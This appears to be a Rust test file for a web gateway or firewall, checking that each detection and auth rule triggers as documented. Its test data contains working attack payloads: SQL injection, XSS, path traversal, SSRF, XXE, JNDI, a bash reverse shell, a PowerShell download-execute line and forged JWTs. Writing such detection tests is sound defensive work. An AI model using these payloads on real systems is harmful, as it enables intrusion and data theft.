        ("ip.not_allowed", get("/allow", ""), "127.0.0.1"),
        ("limits.method", "DELETE /limits HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(), "127.0.0.1"),
        (
            "limits.body_size",
            format!("GET /limits HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\n{}", "a".repeat(20)),
            "127.0.0.1",
        ),
        ("limits.uri_length", get(&format!("/limits?q={}", "a".repeat(80)), ""), "127.0.0.1"),
        ("limits.query_params", get("/limits?a=1&b=2&c=3", ""), "127.0.0.1"),
        ("limits.header_count", get("/limits", &many(3)), "127.0.0.1"),
        ("openapi.path.unknown", get("/oa/nope", ""), "127.0.0.1"),
        ("openapi.method.unknown", "DELETE /oa/items/1 HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(), "127.0.0.1"),
        ("openapi.path.schema", get("/oa/items/abc", ""), "127.0.0.1"),
        ("openapi.query.schema", get("/oa/items/1?limit=99", ""), "127.0.0.1"),
        ("openapi.header.schema", get("/oa/items/1", "X-Tenant: nope\r\n"), "127.0.0.1"),
        ("openapi.cookie.schema", get("/oa/items/1", "Cookie: session=toolong\r\n"), "127.0.0.1"),
        ("openapi.parameter.missing", get("/oa/search", ""), "127.0.0.1"),
        ("openapi.query.unknown", get("/oa/items/1?debug=1", ""), "127.0.0.1"),
        ("openapi.header.unknown", get("/oa/items/1", "X-Debug: 1\r\n"), "127.0.0.1"),
        ("openapi.cookie.unknown", get("/oa/items/1", "Cookie: tracker=1\r\n"), "127.0.0.1"),
        ("openapi.parameter.stripped", "GET /oa/items/1?debug=1 HTTP/1.1\r\nHost: strip.test\r\n\r\n".to_owned(), "127.0.0.1"),
        ("openapi.content_type.unknown", post("/oa/items", "text/plain", "x"), "127.0.0.1"),
        ("openapi.body.missing", post("/oa/items", "application/json", ""), "127.0.0.1"),
        ("openapi.body.unexpected", "GET /oa/search?q=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nab".to_owned(), "127.0.0.1"),
        ("openapi.body.malformed", post("/oa/items", "application/json", "{"), "127.0.0.1"),
        ("openapi.body.schema", post("/oa/items", "application/json", r#"{"name":1}"#), "127.0.0.1"),
        ("openapi.body.read_only", post("/oa/items", "application/json", r#"{"id":1,"name":"a"}"#), "127.0.0.1"),
        ("openapi.body.undeclared", post("/oa/items", "application/json", r#"{"name":"a","admin":true}"#), "127.0.0.1"),
        ("openapi.body.limit", post("/oa/items", "application/json", r#"{"name":"aaaaaaaaaaaa"}"#), "127.0.0.1"),
        ("openapi.body.too_large", post("/oa/items", "application/octet-stream", "123456789"), "127.0.0.1"),
    ];
    cases.extend(detection_trigger_cases());
    cases.extend(identity_trigger_cases());
    cases
}

/// Requests with tokens made now (time claims), for the `auth.*` rules.
fn identity_trigger_cases() -> Vec<(&'static str, String, &'static str)> {
    use portcullis_identity::signing::SigningKey;
    use serde_json::json;
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let key = SigningKey::Hmac(b"the-docs-test-hmac-secret-32-bytes-long".to_vec());
    let claims = |patch: Value| {
        let mut c = json!({"iss": "https://id.test", "aud": "api", "sub": "u1",
                           "scope": "users:read", "tenant": "acme", "exp": now + 600});
        for (k, v) in patch.as_object().unwrap() {
            if v.is_null() {
                c.as_object_mut().unwrap().remove(k);
            } else {
                c[k] = v.clone();
            }
        }
        c
    };
    let token = |alg: &str, header: Value, patch: Value| key.sign(alg, &header, &claims(patch));
    let hs = |patch: Value| token("HS256", json!({"kid": "hs"}), patch);
    let with = |target: &str, token: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n\r\n")
    };
    let b64 = |v: Value| {
        use base64::Engine;
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string())
    };
    let unsigned = format!(
        "{}.{}.",
        b64(json!({"alg": "none"})),
        b64(claims(json!({})))
    );
    let forged = SigningKey::Hmac(b"another-secret-that-is-32-bytes-long!".to_vec()).sign(
        "HS256",
        &json!({"kid": "hs"}),
        &claims(json!({})),
    );
    let user = "/id/users/u1";
    vec![
        (
            "auth.missing",
            "GET /id/users/u1 HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
            "127.0.0.1",
        ),
        ("auth.jwt.malformed", with(user, "not-a-jwt"), "127.0.0.1"),
        ("auth.jwt.alg_none", with(user, &unsigned), "127.0.0.1"),
        (
            "auth.jwt.algorithm",
            with(user, &token("HS999", json!({"kid": "hs"}), json!({}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.crit",
            with(
                user,
                &token("HS256", json!({"kid": "hs", "crit": ["x"]}), json!({})),
            ),
            "127.0.0.1",
        ),
        (
            "auth.jwt.unknown_kid",
            with(user, &token("HS256", json!({"kid": "zz"}), json!({}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.key_mismatch",
            with(user, &token("RS256", json!({"kid": "hs"}), json!({}))),
            "127.0.0.1",
        ),
        ("auth.jwt.signature", with(user, &forged), "127.0.0.1"),
        (
            "auth.jwt.expired",
            with(user, &hs(json!({"exp": now - 600}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.not_yet_valid",
            with(user, &hs(json!({"nbf": now + 600}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.iat",
            with(user, &hs(json!({"iat": now + 600}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.issuer",
            with(user, &hs(json!({"iss": "https://evil.test"}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.audience",
            with(user, &hs(json!({"aud": "other"}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.claim_missing",
            with(user, &hs(json!({"sub": null}))),
            "127.0.0.1",
        ),
        (
            "auth.jwt.keys_unavailable",
            with("/idjwks", &hs(json!({}))),
            "127.0.0.1",
        ),
        (
            // `portcullis check` never calls the endpoint: no answer is cached.
            "auth.introspection.unavailable",
            with("/idintro", "an-opaque-token"),
            "127.0.0.1",
        ),
        (
            "auth.api_key",
            "GET /id/keyed HTTP/1.1\r\nHost: a\r\nX-Api-Key: wrong\r\n\r\n".to_owned(),
            "127.0.0.1",
        ),
        (
            "auth.mtls",
            "GET /id/cert HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
            "127.0.0.1",
        ),
        (
            "auth.scope",
            with(user, &hs(json!({"scope": "orders:read"}))),
            "127.0.0.1",
        ),
        (
            "auth.claim",
            with("/id/tenants/globex", &hs(json!({}))),
            "127.0.0.1",
        ),
        (
            "auth.bola",
            with(user, &hs(json!({"sub": "u2"}))),
            "127.0.0.1",
        ),
    ]
}

fn post(target: &str, content_type: &str, body: &str) -> String {
    format!(
        "POST {target} HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Rules of the response phase: (rule, request, upstream response), run
/// through `offline::evaluate_exchange` as `portcullis check --response` does.
fn response_trigger_cases() -> Vec<(&'static str, String, String)> {
    let get = |host: &str| format!("GET /oa/items/1 HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let answer = |status: u16, content_type: &str, body: &str| {
        format!(
            "HTTP/1.1 {status} X\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    vec![
        (
            "openapi.response.status",
            get("a"),
            answer(500, "application/json", "{}"),
        ),
        (
            "openapi.response.content_type",
            get("a"),
            answer(200, "text/html", "<p>"),
        ),
        (
            "openapi.response.schema",
            get("a"),
            answer(200, "application/json", r#"{"id":"1"}"#),
        ),
        (
            "openapi.response.exposure",
            get("a"),
            answer(200, "application/json", r#"{"id":1,"secret":"s"}"#),
        ),
        (
            "openapi.response.stripped",
            get("strip.test"),
            answer(200, "application/json", r#"{"id":1,"ssn":"1"}"#),
        ),
        (
            "openapi.response.too_large",
            get("strip.test"),
            answer(
                200,
                "application/json",
                &format!(r#"{{"id":1,"pad":"{}"}}"#, "x".repeat(80)),
            ),
        ),
    ]
}

/// One request per detection rule, to the paranoia-4 `detect` route: most as
/// a JSON string value, names as query names or JSON keys, some in headers.
fn detection_trigger_cases() -> Vec<(&'static str, String, &'static str)> {
    let json = |value: &str| {
        let body = serde_json::json!({ "v": value }).to_string();
        format!(
            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let json_key = |key: &str| {
        let body = serde_json::json!({ key: 1 }).to_string();
        format!(
            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let query_name = |name: &str| format!("GET /detect?{name}=1 HTTP/1.1\r\nHost: a\r\n\r\n");
    let header = |name: &str, value: &str| {
        format!("GET /detect HTTP/1.1\r\nHost: a\r\n{name}: {value}\r\n\r\n")
    };
    let cases: Vec<(&'static str, String)> = vec![
        ("sqli.union", json("1 union select 1,2")),
        ("sqli.tautology", json("' or '1'='1")),
        ("sqli.boolean", json("1' and 1=1--")),
        ("sqli.comment_breakout", json("admin'--")),
        ("sqli.stacked_query", json("1; drop table users")),
        ("sqli.time_based", json("1 and sleep(5)")),
        (
            "sqli.error_based",
            json("1 and extractvalue(1,concat(0x7e,version()))"),
        ),
        ("sqli.function", json("1 and @@version")),
        (
            "sqli.schema_probe",
            json("1 union select table_name from information_schema.tables"),
        ),
        ("sqli.obfuscated", json("1 UN/**/ION SEL/**/ECT 1")),
        ("sqli.order_by", json("1 order by 5--")),
        ("sqli.statement", json("select name, email from users")),
        ("sqli.function_fragment", json("SUBSTR(")),
        ("sqli.condition_fragment", json("AND 7639=(")),
        ("sqli.operator_chain", json("'-'")),
        ("xss.script_tag", json("<script>alert(1)</script>")),
        ("xss.event_handler", json("<img src=x onerror=alert(1)>")),
        ("xss.js_url", json("javascript:alert(1)")),
        ("xss.dangerous_tag", json("<iframe src=//example.com>")),
        (
            "xss.css_expression",
            json("<div style=\"x:expression(alert(1))\">"),
        ),
        ("xss.js_injection", json("\";alert(1)//")),
        (
            "xss.template_gadget",
            json("{{constructor.constructor('alert(1)')()}}"),
        ),
        ("xss.spaced_tag", json("<f o r m")),
        ("xss.html_tag", json("<b>bold</b>")),
        ("rce.command_chain", json(";cat /etc/passwd")),
        ("rce.substitution", json("$(whoami)")),
        ("rce.evasion", json("cat${IFS}/etc/passwd")),
        ("rce.unix_command", json("uname -a")),
        ("rce.windows_command", json("& ipconfig /all")),
        (
            "rce.powershell",
            json("powershell IEX(New-Object Net.WebClient).DownloadString('http://x')"),
        ),
        (
            "rce.reverse_shell",
            json("bash -i >& /dev/tcp/192.0.2.1/8080 0>&1"),
        ),
        ("rce.shell_path", json(";/bin/sh -c id")),
        ("rce.fork_bomb", json(":(){ :|:& };:")),
        ("rce.nodejs", json("require('child_process').exec('id')")),
        ("rce.bare_command", json("whoami")),
        ("path.traversal", json("../../etc/passwd")),
        ("path.sensitive_file", json("/etc/passwd")),
        ("path.wrapper", json("php://filter/resource=index.php")),
        (
            "path.restricted_extension",
            "GET /detect/site.bak HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "path.hidden_file",
            "GET /detect/.git/config HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        ("rfi.url", json("http://192.0.2.1/shell.txt?")),
        ("rfi.off_site_url", json("https://example.com/page")),
        (
            "ssrf.metadata",
            json("http://169.254.169.254/latest/meta-data/"),
        ),
        ("ssrf.loopback", json("http://localhost/admin")),
        ("ssrf.private_address", json("http://10.0.0.5/")),
        ("ssrf.obfuscated_ip", json("http://2130706433/")),
        ("ssrf.scheme", json("gopher://example.com:70/_x")),
        (
            "ssrf.pingback",
            json("<methodCall><methodName>pingback.ping</methodName></methodCall>"),
        ),
        ("nosql.operator", json_key("$ne")),
        ("nosql.js_injection", json("';return true;var x='")),
        (
            "nosql.orm_relation_lookup",
            query_name("created_by__user__password__startswith"),
        ),
        ("ldap.filter_injection", json("*)(uid=*))(|(uid=*")),
        ("ssti.expression", json("{{self.__class__.__mro__}}")),
        ("ssti.probe", json("{{7*7}}")),
        ("ssi.directive", json("<!--#exec cmd=\"id\" -->")),
        (
            "xxe.external_entity",
            json("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"),
        ),
        (
            "xxe.entity_declaration",
            json("<!DOCTYPE x [<!ENTITY e \"a\">]>"),
        ),
        (
            "xxe.xinclude",
            json("<xi:include href=\"file:///etc/passwd\"/>"),
        ),
        ("crlf.header_injection", json("x\r\nSet-Cookie: a=b")),
        (
            "crlf.line_break",
            "GET /detect HTTP/1.1\r\nHost: a\r\nX-Note: a%0d%0ab\r\n\r\n".to_owned(),
        ),
        ("crlf.mail_header", json("x\nBcc: victim@example.com")),
        (
            "crlf.mail_command",
            json("x\r\nRCPT TO:<victim@example.com>"),
        ),
        ("crlf.http_splitting", json("x\r\nHTTP/1.1 200 OK")),
        ("proto.pollution", json_key("__proto__")),
        ("jndi.lookup", json("${jndi:ldap://example.com/a}")),
        ("deser.java", json("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")),
        ("deser.php", json("O:8:\"stdClass\":0:{}")),
        ("deser.dotnet", json("AAEAAAD/////AQAAAAAAAAAMAgAAAA")),
        ("deser.python", json("cos\nsystem\n(S'id'\ntR.")),
        (
            "shellshock.function_definition",
            header("User-Agent", "() { :; }; echo x"),
        ),
        ("php.variable_call", json("$f(101).$f(120)")),
        ("php.open_tag", json("<?php echo 1; ?>")),
        ("php.function_call", json("phpinfo()")),
        ("php.variable", json("$_GET['x']")),
        ("php.variable_variable", json("${'ff'}")),
        ("php.ini_directive", json("allow_url_include=1")),
        ("php.script_upload", header("X-Filename", "shell.php")),
        ("java.gadget_class", json("java.lang.Runtime")),
        (
            "java.ognl",
            json("%{#_memberAccess['allowStaticMethodAccess']=true}"),
        ),
        (
            "java.class_loader",
            query_name("class.module.classLoader.resources"),
        ),
        ("java.base64_runtime", json("BydW50aW1l")),
        ("java.el_expression", json("${pageContext.request}")),
        ("scanner.user_agent", header("User-Agent", "sqlmap/1.7")),
        ("http.content_type", header("Content-Type", "my-new-content-type")),
        ("http.charset", header("Accept", "text/html; charset=ibm037")),
        ("http.range", header("Request-Range", "bytes=0-1")),
        ("http.method_override", header("X-HTTP-Method-Override", "DELETE")),
        ("http.restricted_header", header("Proxy", "http://192.0.2.1:8080")),
        ("http.encoded_body", header("Content-Encoding", "gzip")),
        (
            "http.body_on_get",
            "GET /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=b".to_owned(),
        ),
        (
            "http.json_body_on_get",
            "GET /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}".to_owned(),
        ),
        (
            "http.method_syntax",
            "REALLYLONGUNREALMETHOD /detect HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "http.connection_conflict",
            header("Connection", "keep-alive, close"),
        ),
        ("http.legacy_cookie", header("Cookie", "$Version=1; a=b")),
        (
            "http.accept_encoding",
            header("Accept-Encoding", &"A".repeat(40)),
        ),
        (
            "http.invalid_encoding",
            "GET /detect?v=%1G HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "http.non_utf8",
            "GET /detect?v=caf%E9 HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "http.evasive_encoding",
            "GET /detect?v=%uff0f HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "http.proxy_socket_target",
            "GET /detect?unix:AAAA|http://example.com/ HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "http.body_without_type",
            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nab".to_owned(),
        ),
        (
            "http.multipart_name",
            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 80\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a=b.txt\"\r\n\r\nhi\r\n--b--\r\n".to_owned(),
        ),
        ("session.fixation", json("document.cookie=\"sid=1\"")),
        ("session.id_in_parameter", query_name("jsessionid")),
        (
            "anomaly.control_character",
            "GET /detect?v=%01abc HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "anomaly.float_parse_hang",
            "GET /detect?v=2.2250738585072011e-308 HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
        ),
        (
            "anomaly.value_truncated",
            header("X-Long", &"a".repeat(1500)),
        ),
    ];
    cases
        .into_iter()
        .map(|(rule, req)| (rule, req, "127.0.0.1"))
        .collect()
}

/// Rules that only the live gateway produces, because they depend on time or
/// on the connection, which `offline::evaluate` (and so `portcullis check`)
/// never sees: each with the finding the gateway emits for it, built by the
/// same function. Keep this list to rules that really cannot be triggered
/// offline; every other rule needs a case in `trigger_cases()`.
fn gateway_only_rules() -> Vec<Finding> {
    vec![
        portcullis_policy::protocol::body_timeout(),
        portcullis_policy::protocol::malformed_head("invalid request head"),
        portcullis_policy::rate_limit::rate_limited("per-ip", portcullis_policy::Mode::Block),
        portcullis_policy::rate_limit::store_unavailable("per-ip", portcullis_policy::Mode::Block),
        portcullis_policy::rate_limit::banned(portcullis_policy::Mode::Block),
        portcullis_policy::rate_limit::failure_ratio_spike(portcullis_policy::Mode::Block),
        portcullis_policy::rate_limit::access_list_denied(
            "192.0.2.7".parse().unwrap(),
            portcullis_policy::Mode::Block,
        ),
        portcullis_policy::rate_limit::honeypot(
            "path:/.env".into(),
            portcullis_policy::Mode::Block,
        ),
        portcullis_policy::rate_limit::brute_force("login.ip", portcullis_policy::Mode::Block),
        portcullis_policy::rate_limit::credential_stuffing(
            "login.ip",
            portcullis_policy::Mode::Block,
        ),
        portcullis_policy::checks::identity::refusal_finding(
            &portcullis_identity::AuthError::Inactive,
            portcullis_policy::Mode::Block,
        ),
        bot_finding(true),
        bot_finding(false),
    ]
}

/// The bot findings, from a score the engine computed (curl, browser-facing route).
fn bot_finding(block: bool) -> Finding {
    let config: Config = serde_saphyr::from_str(
        "listeners: [{address: 127.0.0.1:8080}]\nupstreams: {a: {endpoints: [\"http://127.0.0.1:1\"]}}\npolicies: {p: {bots: {browser_facing: true}}}\nroutes: [{name: r, upstream: a, policy: p}]\n",
    )
    .unwrap();
    let policy = Policy::compile(config, Path::new("bots.yaml"), "").unwrap();
    let rules = portcullis_policy::bots::compile_routes(&policy).unwrap()[0]
        .clone()
        .unwrap();
    let mut headers = http::HeaderMap::new();
    headers.insert("user-agent", http::HeaderValue::from_static("curl/8.5.0"));
    let score = rules.score(&portcullis_policy::bots::BotRequest {
        path: "/",
        headers: &headers,
        version: http::Version::HTTP_11,
        tls: false,
        ja4: None,
        regular_cadence: false,
        honeypot: false,
    });
    if block {
        portcullis_policy::bots::bot_blocked(&score, portcullis_policy::Mode::Block)
    } else {
        portcullis_policy::bots::bot_limited(&score, portcullis_policy::Mode::Block)
    }
}

/// What the `### \`id\`` section of a gateway-only rule must contain.
const GATEWAY_ONLY_MARKER: &str = "- **Gateway only:**";

/// The text of a rule's `### \`id\`` section, up to the next heading.
fn rule_section_text(id: &str) -> Option<String> {
    let heading = format!("### `{id}`");
    let mut lines = RULES_MD.lines().skip_while(|l| *l != heading);
    lines.next()?;
    Some(
        lines
            .take_while(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n"),
    )
}

/// (check, status, severity) of a finding, as the rules table writes them.
fn table_cells(finding: &Finding) -> (String, String, String) {
    let severity = serde_json::to_value(finding.severity).unwrap();
    (
        finding.check.to_owned(),
        finding.status.as_u16().to_string(),
        severity.as_str().unwrap().to_owned(),
    )
}

#[test]
fn gateway_only_rules_are_documented_as_such() {
    let ids = rule_ids_in_source();
    let table = rule_table();
    let cases = trigger_cases();
    for finding in gateway_only_rules() {
        let rule = finding.rule;
        assert!(
            ids.contains_key(rule),
            "gateway_only_rules() lists {rule}, which the code never emits"
        );
        assert!(
            !cases.iter().any(|(id, _, _)| *id == rule),
            "{rule} is both in trigger_cases() and in gateway_only_rules(): keep only the trigger case"
        );
        let documented = table
            .get(rule)
            .unwrap_or_else(|| panic!("{rule} has no row in the rules table"));
        assert_eq!(
            &table_cells(&finding),
            documented,
            "{rule}: (check, status, severity) in the code vs in docs/rules.md"
        );
        let section = rule_section_text(rule)
            .unwrap_or_else(|| panic!("{rule} has no section in docs/rules.md"));
        assert!(
            section.contains(GATEWAY_ONLY_MARKER) && section.contains("`portcullis check`"),
            "the section of {rule} in docs/rules.md must have a `{GATEWAY_ONLY_MARKER}` item saying that `portcullis check` cannot produce it"
        );
    }
}

#[test]
fn every_rule_behaves_as_the_rules_table_says() {
    let policy = compile("trigger.yaml", TRIGGER_CONFIG).unwrap_or_else(|e| panic!("{e}"));
    let table = rule_table();
    let cases = trigger_cases();
    let gateway_only: BTreeSet<&str> = gateway_only_rules().iter().map(|f| f.rule).collect();
    let response_cases = response_trigger_cases();
    for id in rule_ids_in_source().keys() {
        assert!(
            cases.iter().any(|(rule, _, _)| rule == id)
                || response_cases.iter().any(|(rule, _, _)| rule == id)
                || gateway_only.contains(id.as_str()),
            "rule {id} has no trigger case in trigger_cases() of this test: add a request that produces it"
        );
    }
    for (rule, request, client) in cases {
        let raw = parse_raw_request(request.as_bytes())
            .unwrap_or_else(|e| panic!("{rule}: bad request: {e}"));
        let report = evaluate(&policy, &raw, client.parse().unwrap());
        for f in &report.findings {
            assert!(
                !gateway_only.contains(f.rule),
                "{rule}: offline evaluation produced {}, listed as gateway-only: give it a trigger case instead",
                f.rule
            );
        }
        let finding = report
            .findings
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| {
                panic!(
                    "{rule}: not produced; findings: {}",
                    serde_json::to_string(&report.findings).unwrap()
                )
            });
        let actual = table_cells(finding);
        let documented = table
            .get(rule)
            .unwrap_or_else(|| panic!("{rule} has no row in the rules table"));
        assert_eq!(
            &actual, documented,
            "{rule}: (check, status, severity) in the code vs in docs/rules.md"
        );
    }
    for (rule, request, response) in response_cases {
        let raw = parse_raw_request(request.as_bytes())
            .unwrap_or_else(|e| panic!("{rule}: bad request: {e}"));
        let answer = portcullis_policy::offline::parse_raw_response(response.as_bytes())
            .unwrap_or_else(|e| panic!("{rule}: bad response: {e}"));
        let (report, response_report) = portcullis_policy::offline::evaluate_exchange(
            &policy,
            &raw,
            Some(&answer),
            "127.0.0.1".parse().unwrap(),
        );
        assert!(
            !report.is_block(),
            "{rule}: the request itself must pass: {:?}",
            report.findings
        );
        let findings = response_report
            .expect("a forwarded request has a response report")
            .findings;
        let finding = findings.iter().find(|f| f.rule == rule).unwrap_or_else(|| {
            panic!(
                "{rule}: not produced; findings: {}",
                serde_json::to_string(&findings).unwrap()
            )
        });
        let documented = table
            .get(rule)
            .unwrap_or_else(|| panic!("{rule} has no row in the rules table"));
        assert_eq!(
            &table_cells(finding),
            documented,
            "{rule}: (check, status, severity) in the code vs in docs/rules.md"
        );
    }
}
